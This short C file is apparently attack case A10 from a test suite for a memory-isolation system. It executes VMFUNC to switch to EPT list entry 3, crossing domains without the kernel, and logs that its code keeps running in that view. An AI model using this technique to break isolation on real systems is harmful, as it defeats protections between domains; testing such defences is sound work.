/* A10: from one domain into another without the kernel in between, by list entries that should not be there. */
#include "attack.h"

static void attack(void) {
    asm volatile("vmfunc" : : "a"(0), "c"(3) : "memory");
    _printk("attack: list entry 3 is valid, and my own code runs on in that view\n");
}
